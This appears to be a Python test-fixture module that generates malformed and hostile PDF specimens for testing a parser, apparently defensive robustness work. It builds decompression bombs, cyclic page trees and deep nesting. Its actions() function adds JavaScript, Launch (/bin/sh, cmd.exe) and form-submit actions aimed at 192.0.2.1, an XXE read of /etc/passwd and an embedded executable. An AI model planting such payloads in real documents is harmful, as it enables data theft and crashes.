"""PDF: trees that lie, tables that loop, measures of no paper, locks, and files cut short."""

from __future__ import annotations

import io

import pymupdf

from tests.specimens.attacks.raw_pdf import TEXT, drawn, flate, page, stream, written, zeros

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"


def trees() -> dict[str, bytes]:
    def tree(node: bytes, **more: bytes) -> bytes:
        return written({**page(), 2: node, **{int(name[1:]): value for name, value in more.items()}})

    chain = {**page(), 2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>"}
    for number in range(10, 5010):
        chain[number] = b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (max(2, number - 1), number + 1)
    chain[5010] = PAGE
    return {
        "tree-count-million.pdf": tree(b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>"),
        "tree-count-negative.pdf": tree(b"<</Type/Pages/Kids[3 0 R]/Count -5>>"),
        "tree-count-huge.pdf": tree(b"<</Type/Pages/Kids[3 0 R]/Count 99999999999999999999>>"),
        "tree-count-name.pdf": tree(b"<</Type/Pages/Kids[3 0 R]/Count/Many>>"),
        "tree-count-zero.pdf": tree(b"<</Type/Pages/Kids[3 0 R]/Count 0>>"),
        "tree-kid-is-itself.pdf": tree(b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "tree-circle.pdf": tree(b"<</Type/Pages/Kids[10 0 R]/Count 7>>", o10=b"<</Type/Pages/Kids[2 0 R]/Count 7>>"),
        "tree-kids-null.pdf": tree(b"<</Type/Pages/Kids[null null]/Count 2>>"),
        "tree-kids-numbers.pdf": tree(b"<</Type/Pages/Kids[1 2 3]/Count 3>>"),
        "tree-kids-missing.pdf": tree(b"<</Type/Pages/Kids[99 0 R]/Count 1>>"),
        "tree-kids-string.pdf": tree(b"<</Type/Pages/Kids(3 0 R)/Count 1>>"),
        "tree-same-page-often.pdf": tree(b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>"),
        "tree-2500-pages.pdf": tree(b"<</Type/Pages/Kids[" + b"3 0 R " * 2500 + b"]/Count 2500>>"),
        "tree-too-few-told.pdf": tree(b"<</Type/Pages/Kids[3 0 R 3 0 R 3 0 R]/Count 1>>"),
        "tree-too-few-told-without-a-table.pdf": written(
            {**page(), 2: b"<</Type/Pages/Kids[3 0 R 10 0 R]/Count 1>>", 10: page()[3]}
        ).replace(b"xref", b"xxxx"),
        "tree-5000-deep.pdf": written(chain),
        "tree-is-a-page.pdf": tree(PAGE),
        "tree-missing.pdf": written({1: b"<</Type/Catalog>>"}),
        "tree-is-the-catalogue.pdf": written({1: b"<</Type/Catalog/Pages 1 0 R>>"}),
        "root-missing.pdf": written({1: b"<</Type/Catalog/Pages 2 0 R>>"}, root=b"77 0 R"),
        "root-is-a-number.pdf": written(page(), root=b"12"),
        "page-without-content.pdf": written({**page(), 3: b"<</Type/Page/Parent 2 0 R>>"}),
        "page-content-is-itself.pdf": written({**page(), 3: PAGE.replace(b"4 0 R", b"3 0 R")}),
    }


def tables() -> dict[str, bytes]:
    good = written(page())
    at = good.rindex(b"xref\n0")
    start = b"startxref\n%d\n" % at
    first = b"<</Type/ObjStm/N 1/First 4/Extends 10 0 R"
    cells = stream(zeros(64), b"/Type/XRef/Size 2147483647/W[1 4 2]/Root 1 0 R/Filter/FlateDecode")
    as_stream = b"%PDF-1.7\n" + b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    return {
        "table-previous-is-itself.pdf": written(page(), trailer=b"/Prev %d" % at),
        "table-previous-far.pdf": written(page(), trailer=b"/Prev 99999999999"),
        "table-starts-at-the-end.pdf": good.replace(start, b"startxref\n99999999\n"),
        "table-starts-below-zero.pdf": good.replace(start, b"startxref\n-7\n"),
        "table-garbage.pdf": good.replace(b"0000000000 65535 f", b"zzzzzzzzzz zzzzz f"),
        "table-size-huge.pdf": good.replace(b"xref\n0 6", b"xref\n0 2147483647"),
        "table-stream-bomb.pdf": as_stream
        + b"9 0 obj\n"
        + cells
        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(as_stream),
        "objects-in-a-circle.pdf": written({**page(), 10: stream(b"7 0 (x)", first[2:])}),
        "objects-bomb.pdf": written(
            {**page(), 10: stream(zeros(300), b"/Type/ObjStm/N 1000000/First 9/Filter/FlateDecode")}
        ),
        "length-is-itself.pdf": written({**page(), 4: b"<</Length 4 0 R>>\nstream\n" + TEXT + b"\nendstream"}),
        "length-negative.pdf": written({**page(), 4: stream(TEXT, length=-1)}),
        "length-huge.pdf": written({**page(), 4: stream(TEXT, length=2**62)}),
        "object-refers-to-itself.pdf": written({**page(), 3: b"3 0 R"}),
        "nested-arrays.pdf": written(
            {**page(), 10: b"[" * 100_000 + b"]" * 100_000, 3: PAGE.replace(b">>>>>>", b">>>>/X 10 0 R>>")}
        ),
        "nested-dictionaries.pdf": written({**page(), 3: b"<</A" * 50_000 + b" 1" + b">>" * 50_000}),
    }


def measures() -> dict[str, bytes]:
    boxes = {
        "huge": b"[0 0 1e9 1e9]",
        "beyond-float": b"[0 0 1e300 1e300]",
        "long": b"[0 0 10 14399]",
        "zero": b"[0 0 0 0]",
        "turned-over": b"[595 842 0 0]",
        "negative": b"[-1e7 -1e7 -9e6 -9e6]",
        "words": b"[(a) (b) (c) (d)]",
        "short": b"[0 0 595]",
        "nothing": b"null",
        "itself": b"3 0 R",
    }
    found = {f"box-{name}.pdf": written(page(box=box)) for name, box in boxes.items()}
    more = {
        "user-unit-million": b"/UserUnit 1000000",
        "rotate-45": b"/Rotate 45",
        "rotate-huge": b"/Rotate 99999999990",
        "crop-outside": b"/CropBox[5000 5000 6000 6000]",
        "crop-tiny": b"/CropBox[0 0 0.001 0.001]",
        "crop-huge": b"/CropBox[-1e8 -1e8 1e8 1e8]",
    }
    return {**found, **{f"{name}.pdf": written(page(more=value)) for name, value in more.items()}}


def locks() -> dict[str, bytes]:
    def locked(method: int, user: str) -> bytes:
        pdf = pymupdf.open()
        pdf.new_page().insert_text((72, 72), "locked")
        file = io.BytesIO()
        pdf.save(file, encryption=method, user_pw=user, owner_pw="owner")
        return file.getvalue()

    def wrong(dictionary: bytes) -> bytes:
        return written({**page(), 10: dictionary}, trailer=b"/Encrypt 10 0 R/ID[(a)(a)]")

    return {
        "locked-aes256.pdf": locked(pymupdf.PDF_ENCRYPT_AES_256, "secret"),
        "locked-aes128.pdf": locked(pymupdf.PDF_ENCRYPT_AES_128, "secret"),
        "locked-rc4.pdf": locked(pymupdf.PDF_ENCRYPT_RC4_128, "secret"),
        "locked-unknown-handler.pdf": wrong(b"<</Filter/Other/V 1>>"),
        "locked-version-99.pdf": wrong(b"<</Filter/Standard/V 99/R 99/Length -40/P -1/O(a)/U(b)>>"),
        "locked-empty.pdf": wrong(b"<<>>"),
        "locked-by-a-number.pdf": wrong(b"42"),
    }


def cuts() -> dict[str, bytes]:
    pages = {**page(flate(b"0 0 m 1 1 l S\n" * 4000)), 4: flate(b"0 0 m 100 100 l S\n" * 4000)}
    good = written(pages)
    found = {f"cut-{share}.pdf": good[: len(good) * share // 100] for share in (5, 20, 40, 60, 80, 95, 99)}
    return {
        **found,
        "cut-no-start.pdf": good[: good.rindex(b"startxref")],
        "cut-no-table.pdf": good[: good.rindex(b"xref\n0")] + b"%%EOF\n",
        "cut-only-a-head.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "cut-head-and-end.pdf": b"%PDF-1.7\n%%EOF\n",
        "cut-middle-lost.pdf": good[: len(good) // 3] + good[2 * len(good) // 3 :],
        "zeroed-middle.pdf": good[:200] + bytes(len(good) - 400) + good[-200:],
        "followed-by-megabytes.pdf": good + bytes(3 << 20),
        "version-9-9.pdf": good.replace(b"%PDF-1.7", b"%PDF-9.9"),
        "garbage-behind-the-head.pdf": b"%PDF-1.4\n" + bytes(range(256)) * 400 + b"\n%%EOF\n",
    }


def actions() -> dict[str, bytes]:
    def acting(catalogue: bytes, **more: bytes) -> bytes:
        objects = {**page(), 1: b"<</Type/Catalog/Pages 2 0 R %s>>" % catalogue}
        return written({**objects, **{int(name[1:]): value for name, value in more.items()}})

    elsewhere = b"/F<</FS/URL/F(http://192.0.2.1/stolen)>>/Length 0"
    note = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(http://192.0.2.1/)>>>>]"
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    return {
        "act-script.pdf": acting(b'/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://192.0.2.1"\\))>>'),
        "act-launch.pdf": acting(b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"),
        "act-go-elsewhere.pdf": acting(b"/OpenAction<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\share)/D[0/Fit]>>"),
        "act-submit.pdf": acting(b"/OpenAction<</S/SubmitForm/F(http://192.0.2.1/)>>"),
        "act-link.pdf": written(page(more=note)),
        "act-form-xml.pdf": acting(b"/AcroForm<</XFA 10 0 R/Fields[]>>", o10=stream(laughs)),
        "act-form-of-the-viewer.pdf": acting(
            b"/NeedsRendering true/AcroForm<</XFA 10 0 R/Fields[]>>", o10=stream(b"<xdp/>")
        ),
        "act-attachment.pdf": acting(
            b"/Names<</EmbeddedFiles<</Names[(x.exe)10 0 R]>>>>",
            o10=b"<</Type/Filespec/F(x.exe)/EF<</F 11 0 R>>>>",
            o11=stream(b"MZ\x90"),
        ),
        "act-content-elsewhere.pdf": written({**page(), 4: b"<<" + elsewhere + b">>\nstream\n\nendstream"}),
        "act-form-elsewhere.pdf": drawn(
            b"/X Do",
            b"/XObject<</X 10 0 R>>",
            o10=stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(/etc/passwd)/Page 0>>"),
        ),
    }
